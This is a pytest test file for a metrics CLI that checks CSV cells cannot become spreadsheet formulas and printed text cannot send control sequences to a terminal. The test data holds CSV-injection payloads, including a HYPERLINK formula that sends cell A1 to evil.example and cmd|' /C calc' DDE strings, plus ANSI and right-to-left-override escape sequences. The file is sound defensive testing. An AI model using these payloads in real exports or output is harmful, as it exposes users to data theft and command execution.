"""What the commands print is safe to open and to read: CSV cells are never spreadsheet
formulas, and text from sources never drives the terminal (issue 17, item 4)."""

from __future__ import annotations

import dataclasses
import io
import re
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from metrics import pipeline
from metrics.cli import cli
from metrics.models import Claim, Document
from metrics.output import format_frame, spreadsheet_safe, terminal_text
from metrics.pipeline import ingest
from metrics.store import Store

SPREADSHEET_CASES = [
    # (cell, written as) -- OWASP's CSV injection: = + - @ tab CR start a formula
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("=", "'="),
    # text that is a signed number stays a number
    ("-6.7%", "-6.7%"),
    ("+62 %", "+62 %"),
    ("-300,000", "-300,000"),
    ("-", "-"),
    # everything else is left alone
    ("4.5 million tons", "4.5 million tons"),
    ("a=b", "a=b"),
    ("", ""),
    (-5, -5),
    (-6.7, -6.7),
    (None, None),
]  # fmt: skip


@pytest.mark.parametrize(("cell", "written"), SPREADSHEET_CASES)
def test_spreadsheet_safe(cell: object, written: object) -> None:
    assert spreadsheet_safe(cell) == written


TERMINAL_CASES = [
    ("plain title", "plain title"),
    ("\x1b[2J\x1b[Hcleared", "\\x1b[2J\\x1b[Hcleared"),  # clear screen, cursor home
    ("\x1b]0;pwned\x07title", "\\x1b]0;pwned\\x07title"),  # set the window title
    ("\x9b31mred", "\\x9b31mred"),  # the one-byte CSI
    ("over\rwritten", "over\\rwritten"),
    ("back\x08space", "back\\x08space"),
    ("tab\tbed", "tab\\tbed"),
    ("two\nlines", "two\\nlines"),
    ("evil\u202etxt.exe", "evil\\u202etxt.exe"),  # right-to-left override
    ("Kazakhstan’s 4,5 млн т — 62%", "Kazakhstan’s 4,5 млн т — 62%"),  # text is text
]


@pytest.mark.parametrize(("text", "printed"), TERMINAL_CASES)
def test_terminal_text(text: str, printed: str) -> None:
    assert terminal_text(text) == printed


def test_csv_escapes_text_and_keeps_numbers_and_dates() -> None:
    frame = pd.DataFrame({
        "quote": ["=1+1", "fine"],
        "value": [-5.0, 2.5],
        "count": [-1, 3],
        "published": pd.to_datetime(["2024-01-02", None]),
    })  # fmt: skip
    parsed = pd.read_csv(io.StringIO(format_frame(frame, "csv")))
    assert parsed["quote"].tolist() == ["'=1+1", "fine"]
    assert parsed["value"].tolist() == [-5.0, 2.5]
    assert parsed["count"].tolist() == [-1, 3]


def test_json_escapes_what_a_terminal_would_act_on_and_reads_back_the_same() -> None:
    frame = pd.DataFrame({"title": ["\x1b]0;pwned\x07 \x9b2J evil\u202etxt — 62%"]})
    printed = format_frame(frame, "json")
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", printed)
    assert "— 62%" in printed  # other text stays as it is
    assert pd.read_json(io.StringIO(printed)).equals(frame)


def test_table_escapes_cells_and_headers() -> None:
    frame = pd.DataFrame({"\x1b[2J": ["\x1b]0;pwned\x07", "ok"]})
    printed = format_frame(frame, "table")
    assert "\x1b" not in printed and "\x07" not in printed
    assert printed.splitlines()[1] == "\\x1b]0;pwned\\x07"


HOSTILE = '=HYPERLINK("http://evil.example","x")'
CONTROL_TITLE = "\x1b]0;pwned\x07Cargo\x1b[2J"


def _hostile_extract(document: Document) -> list[Claim]:
    from conftest import fake_extract

    return [dataclasses.replace(c, quote=f"{HOSTILE} {c.quote}", entity="@SUM(A1)")
            for c in fake_extract(document)]  # fmt: skip


@pytest.fixture
def hostile_db(tmp_path: Path, write) -> Path:
    """Two publishers that disagree (a conflict), every text field a formula or a control
    sequence."""
    yaml_title = CONTROL_TITLE.encode("unicode_escape").decode("ascii")  # YAML's own escapes
    write("docs/a.txt", f"---\npublisher: '{HOSTILE}'\ntitle: \"{yaml_title}\"\n"
                        "published: 2025-05-14\n---\nCargo reached 4500 tons.")  # fmt: skip
    write("docs/b.txt", "---\npublisher: '+cmd|'' /C calc''!A0'\npublished: 2025-06-01\n---\n"
                        "Cargo reached 2600 tons.")  # fmt: skip
    path = tmp_path / "m.duckdb"
    with Store(path) as store:
        assert ingest(store, [tmp_path / "docs"], extractor=_hostile_extract).documents == 2
    return path


@pytest.mark.parametrize(
    "args",
    [
        pytest.param(["resolved"], id="resolved"),
        pytest.param(["conflicts"], id="conflicts"),
        pytest.param(["claims"], id="claims"),
        pytest.param(["sql", "SELECT publisher, title, -5 AS n, '-6.7%' AS pct FROM sources"],
                     id="sql"),
    ],
)  # fmt: skip
def test_csv_output_has_no_formula(hostile_db: Path, args: list[str]) -> None:
    result = CliRunner().invoke(cli, [*args, "--format", "csv", "--db", str(hostile_db)])
    assert result.exit_code == 0, result.output
    frame = pd.read_csv(io.StringIO(result.stdout), dtype=str, keep_default_na=False)
    assert len(frame) >= 1
    cells = [cell for column in frame.columns for cell in frame[column]]
    formulas = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r", "-"))
                and not re.fullmatch(r"[-+][\d.,% ]*", c)]  # fmt: skip
    assert formulas == []
    assert any(cell.startswith("'=HYPERLINK") or cell.startswith("'@SUM") for cell in cells)
    if args[0] == "sql":
        assert set(frame["n"]) == {"-5"} and set(frame["pct"]) == {"-6.7%"}


@pytest.mark.parametrize(
    "args",
    [
        pytest.param(["sql", "SELECT title FROM sources"], id="sql"),
        pytest.param(["resolved"], id="resolved"),
        pytest.param(["claims"], id="claims"),
    ],
)
def test_tables_print_control_characters_escaped(hostile_db: Path, args: list[str]) -> None:
    result = CliRunner().invoke(cli, [*args, "--db", str(hostile_db)])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    if args[0] == "sql":
        assert "\\x1b]0;pwned\\x07Cargo\\x1b[2J" in result.stdout


def test_error_lines_print_control_characters_escaped(
    tmp_path: Path, write, monkeypatch: pytest.MonkeyPatch, fake_extractor: Callable
) -> None:
    import functools

    monkeypatch.setattr(pipeline, "ingest", functools.partial(ingest, extractor=fake_extractor))
    write("docs/bad\x1b]0;pwned\x07\x1b[2J.txt", b"caf\xe9")
    write("docs/good.txt", "Cargo reached 4500 tons.")
    result = CliRunner().invoke(cli, ["ingest", str(tmp_path / "docs"),
                                      "--db", str(tmp_path / "m.duckdb")])  # fmt: skip
    assert result.exit_code == 1
    assert "\x1b" not in result.output and "\x07" not in result.output
    errors = [line for line in result.stderr.splitlines() if line.startswith("Error:")]
    assert len(errors) == 1 and "bad\\x1b]0;pwned\\x07\\x1b[2J.txt: not UTF-8 text" in errors[0]
    assert "1 documents, 1 claims" in result.stdout


def test_a_library_error_naming_a_hostile_path_is_escaped(tmp_path: Path) -> None:
    missing = tmp_path / "no\x1b[2Jdb.duckdb"
    result = CliRunner().invoke(cli, ["claims", "--db", str(missing)])
    assert result.exit_code == 1
    assert "\x1b" not in result.stderr and "no\\x1b[2Jdb.duckdb" in result.stderr
